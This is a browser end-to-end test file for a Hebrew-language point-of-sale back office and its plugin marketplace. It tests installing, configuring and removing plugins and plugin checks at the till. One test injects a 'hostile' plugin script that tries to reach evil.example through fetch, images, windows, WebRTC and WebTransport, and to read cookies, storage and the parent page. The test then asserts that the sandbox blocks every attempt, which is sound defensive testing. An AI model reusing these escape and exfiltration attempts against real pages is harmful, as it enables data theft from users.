import { createHash } from 'node:crypto';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, type WatchedPage } from '../support/browser.ts';
import { startDemoServer, type DemoServer } from '../support/demo-server.ts';
import { stopAfterFirstFailure } from '../support/journey.ts';
import {
  type Finding,
  checkScreen,
  SCREENSHOT_FOLDER,
  summarizeFindings,
} from '../support/screen-checks.ts';
import { GOODS } from '../support/goods.ts';
import { scanInto } from '../support/scanner.ts';
import { openOffice, openTill } from '../support/signed-in-pages.ts';

const NAME = 'זמני סגירה';
const SEND = 'שלחו קבלה';
/** The browser's messages when a page without an origin tries what is forbidden. */
const BLOCKED_BY_SANDBOX =
  /Content Security Policy|requires 'Trusted|Refused to|Failed to load resource|Blocked|sandbox|ERR_BLOCKED/i;

/**
 * A plugin that tries everything a plugin might try, and reports the results by a message, its only
 * channel.
 */
const HOSTILE = `
  const got = [];
  const attempt = async (name, run) => { try { await run(); got.push(name); } catch { /* As it should be. */ } };
  addEventListener('message', async ({ source, ports: [port] }) => {
    if (source !== parent || port === undefined) return;
    const answers = new Map();
    port.onmessage = ({ data }) => answers.get(data.id)?.(data);
    let last = 0;
    const ask = (call, data) => new Promise((done) => { last += 1; answers.set(last, done); port.postMessage({ v: 1, id: last, call, data }); });
    await attempt('our server', () => fetch('/api/v2/app/init'));
    await attempt('another server', () => fetch('https://evil.example/a'));
    await attempt('a picture', () => new Promise((done, failed) => { const i = new Image(); i.onload = done; i.onerror = failed; i.src = 'https://evil.example/b.png'; }));
    await attempt('a script', () => { const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.head.append(s); if (window.ran !== true) throw new Error(); });
    await attempt('eval', () => eval('1'));
    await attempt('the page around', () => parent.parent.document.title);
    await attempt('the page', () => top.document.title);
    await attempt('what is kept here', () => localStorage.getItem('a'));
    await attempt('cookies', () => document.cookie);
    await attempt('a window', () => { if (open('https://evil.example/c') === null) throw new Error(); });
    await attempt('the top', () => { top.location = 'https://evil.example/d'; });
    await attempt('another browser', () => new RTCPeerConnection({ iceServers: [{ urls: 'turn:evil.example', username: 'data', credential: 'x' }] }));
    await attempt('another browser by its old name', () => new webkitRTCPeerConnection({}));
    await attempt('a channel', () => { RTCDataChannel.name; });
    await attempt('a transport', () => new WebTransport('https://evil.example/f'));
    await attempt('what was removed', () => { Object.defineProperty(globalThis, 'RTCPeerConnection', { value: 1 }); });
    await attempt('an empty frame', () => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.RTCPeerConnection.name; });
    await attempt('a frame of its own', () => { const f = document.createElement('iframe'); f.srcdoc = '<p>'; document.body.append(f); });
    await attempt('a frame by an attribute', () => { const a = document.createAttribute('srcdoc'); a.value = '<p>'; document.createElement('iframe').setAttributeNode(a); });
    await attempt('a record', async () => { if (!(await ask('record.read', { id: '1' })).ok) throw new Error(); });
    await attempt('an operation', async () => { if (!(await ask('operation', { operation: 'send', data: {} })).ok) throw new Error(); });
    await ask('toast', { text: 'got: ' + got.join(', ') + '.', tone: 'ok' });
    location = 'https://evil.example/e';
  });
`;

let server: DemoServer;
let browser: Browser;
const findings: Finding[] = [];
const look = async (page: Page, screen: string): Promise<void> =>
  void findings.push(...(await checkScreen(page, screen, { sizes: ['desktop', 'phone'] })));

beforeAll(async () => {
  server = await startDemoServer();
  browser = await launchBrowser();
  console.info(`Pictures of these screens: ${SCREENSHOT_FOLDER}`);
});
afterAll(async () => {
  await browser?.close();
  await server?.dispose();
});

describe('a manager who looks for plugins', () => {
  let desk: WatchedPage;
  let till: WatchedPage;
  const content = (page: Page) => page.locator('#content');
  const panel = (page: Page) =>
    page.frameLocator(`iframe[title="${NAME}"]:not([hidden])`).frameLocator('iframe');
  stopAfterFirstFailure();
  afterAll(() => Promise.all([desk?.context.close(), till?.context.close()]));

  it('sees what each plugin requests before installing it', async () => {
    desk = await openOffice(browser, server, { expectedProblems: BLOCKED_BY_SANDBOX });
    till = await openOffice(browser, server);
    for (const { page } of [desk, till]) await page.getByText('מכירות היום').waitFor();
    const { page } = desk;
    await page.goto(`${server.url}/#/marketplace`);
    await content(page).getByRole('link', { name: NAME }).waitFor();
    await look(page, 'marketplace');
    await content(page).getByRole('link', { name: NAME }).click();
    await content(page).getByRole('heading', { name: NAME }).waitFor();
    expect(
      await content(page).getByText('התוסף אינו קורא נתונים של העסק ואינו שולח דבר.').count(),
    ).toBe(1);
  });

  it('installs one, which appears on every open screen at once', async () => {
    const { page } = desk;
    await content(page).getByRole('button', { name: 'התקינו' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'התקינו' }).click();
    await content(page).getByRole('button', { name: 'הסירו' }).waitFor();
    await panel(till.page).getByText('הדלקת נרות').waitFor();
  });

  it('sets it up by its declared settings [SHELL-044]', async () => {
    const { page } = desk;
    await content(page).getByRole('link', { name: 'הגדרות' }).click();
    const town = content(page).getByRole('combobox', { name: 'יישוב' });
    await town.click();
    await page.getByRole('option', { name: 'חיפה' }).click();
    await look(page, 'plugin-settings');
    await content(page).getByRole('button', { name: 'שמרו' }).click();
    await page.getByText('ההגדרות נשמרו').first().waitFor();
    await panel(till.page).getByText('חיפה').waitFor();
    await page.goto(`${server.url}/#/`);
    await panel(page).getByText('חיפה').waitFor();
    await page.goto(`${server.url}/#/marketplace/no-such-plugin/settings`);
    await page.getByText('התוסף no-such-plugin אינו מותקן').waitFor();
  });

  it('is safe from a plugin, which reaches nothing but its frame [CLOUD-048]', async () => {
    const { page } = desk;
    const reached: string[] = [];
    await page.context().route('**/plugin-frames/closing-times.html', async (route) => {
      const answer = await route.fetch();
      const [headers, page] = [answer.headers(), await answer.text()];
      // Page and policy are the server's own; only the plugin's script and its hash are exchanged.
      const sumOf = (script: string): string =>
        createHash('sha256').update(script, 'utf8').digest('base64');
      const script = /<script type="module">([\s\S]*)<\/script>/.exec(page)?.[1] ?? '';
      await route.fulfill({
        status: answer.status(),
        headers: {
          ...headers,
          'content-security-policy': (headers['content-security-policy'] ?? '').replace(
            sumOf(script),
            () => sumOf(HOSTILE),
          ),
        },
        body: page.replace(script, () => HOSTILE),
      });
    });
    await page.context().route('https://evil.example/**', (route) => {
      // What the policy blocks never reaches this route.
      reached.push(route.request().url());
      return route.fulfill({ body: 'got it' });
    });
    await page.goto(`${server.url}/#/`);
    await page.reload();
    // Only the report proves that the script ran to its end.
    await page.getByText('got:').first().waitFor();
    expect(await page.getByText('got:').first().textContent()).toContain('got: .');
    await page.waitForTimeout(500);
    expect(reached).toEqual([]);
    await expect.poll(() => new URL(page.url()).origin).toBe(server.url);
    await page.context().unrouteAll();
  });

  it('removes it from every screen at once', async () => {
    const { page } = desk;
    await page.goto(`${server.url}/#/marketplace/closing-times`);
    await page.reload();
    await content(page).getByRole('button', { name: 'הסירו' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'הסירו' }).click();
    await content(page).getByRole('button', { name: 'התקינו' }).waitFor();
    await till.page.locator(`iframe[title="${NAME}"]`).first().waitFor({ state: 'detached' });
    expect(await till.page.locator(`iframe[title="${NAME}"]`).count()).toBe(0);
  });

  it('finds the triggers of another plugin above the lists of the components that it names, and in their forms [REC-017]', async () => {
    const { page } = desk;
    await page.goto(`${server.url}/#/items/101`);
    await content(page).getByRole('heading', { name: 'עסקאות קופה' }).waitFor();
    const button = content(page).getByRole('button', { name: SEND }).filter({ visible: true });
    expect(await button.count()).toBe(0);
    await page.goto(`${server.url}/#/marketplace/receipt-sender`);
    await content(page).getByText('לקרוא מלקוחות: שם, דוא"ל, טלפון.').first().waitFor();
    await content(page).getByRole('button', { name: 'התקינו' }).click();
    await look(page, 'plugin-asks');
    await page.getByRole('dialog').getByRole('button', { name: 'התקינו' }).click();
    await content(page)
      .getByText('חסרות הגדרות')
      .or(content(page).getByText('מותקן'))
      .first()
      .waitFor();
    await page.goto(`${server.url}/#/items/101`);
    await button.click();
    await page
      .getByRole('dialog')
      .frameLocator('iframe')
      .frameLocator('iframe')
      .getByText('בחרו עסקה ברשימה')
      .waitFor();
    await page.keyboard.press('Escape');
    await page.goto(`${server.url}/#/item/id/1/component/111`);
    await button.click();
    await page
      .getByRole('dialog')
      .frameLocator('iframe')
      .frameLocator('iframe')
      .getByText('התוסף עדיין לא הוגדר')
      .waitFor();
    await look(page, 'plugin-over-form');
    await page.keyboard.press('Escape');
  });

  it('lets a plugin propose a bag and stop a bill before its payment, which the cashier answers [CLOUD-046]', async () => {
    const { page } = desk;
    await page.goto(`${server.url}/#/marketplace/till-checks`);
    await content(page).getByText('להציע לקופאי להוסיף מוצר').first().waitFor();
    await content(page).getByRole('button', { name: 'התקינו' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'התקינו' }).click();
    await content(page).getByRole('link', { name: 'הגדרות' }).click();
    await content(page)
      .getByRole('textbox', { name: /מחייבות גיל 18/ })
      .fill(GOODS.noodles.name);
    await content(page)
      .getByRole('switch', { name: /לעצור את התשלום/ })
      .click({ force: true });
    await content(page)
      .getByRole('textbox', { name: /ברקוד או קוד של שקית/ })
      .fill(GOODS.riceCakes.barcode);
    await content(page)
      .getByRole('textbox', { name: /משורות בחשבון/ })
      .fill('1');
    await content(page).getByRole('button', { name: 'שמרו' }).click();
    await page.getByText('ההגדרות נשמרו').first().waitFor();
    const shop = await openTill(browser, server, { card: server.people.cards.manager });
    await scanInto(shop.page, GOODS.noodles.barcode);
    const proposals = shop.page.getByRole('list', { name: 'הצעות של תוספים' });
    await proposals.getByText('בדיקות לפני תשלום מציע:').waitFor();
    await look(shop.page, 'plugin-proposes');
    const add = proposals.getByRole('button', { name: 'הוסיפו' });
    const size = shop.page.viewportSize();
    await shop.page.setViewportSize({ width: 390, height: 844 });
    const bottom = async () => {
      const box = await add.boundingBox();
      return (box?.y ?? Infinity) + (box?.height ?? 0);
    };
    const folded = await shop.page.getByTestId('pay').boundingBox();
    await expect.poll(bottom).toBeLessThan(folded?.y ?? 0);
    if (size !== null) await shop.page.setViewportSize(size);
    await add.click();
    await proposals.waitFor({ state: 'detached' });
    await shop.page.getByTestId('bill-row').getByText(GOODS.riceCakes.name).first().waitFor();
    await shop.page.keyboard.press('F10');
    const stop = shop.page.getByRole('dialog', { name: 'תוסף עצר את התשלום' });
    await stop.getByText('בדקו תעודה').waitFor();
    await look(shop.page, 'plugin-stops');
    await stop.getByRole('button', { name: 'חזרו לחשבון' }).click();
    await stop.waitFor({ state: 'detached' });
    await shop.page.keyboard.press('F10');
    await stop.getByRole('button', { name: 'המשיכו לתשלום' }).click();
    await shop.page.getByTestId('owed').waitFor();
    await shop.context.close();
  });

  it('finds no serious problem on these screens', () => {
    expect(summarizeFindings(findings)).toEqual([]);
  });
});
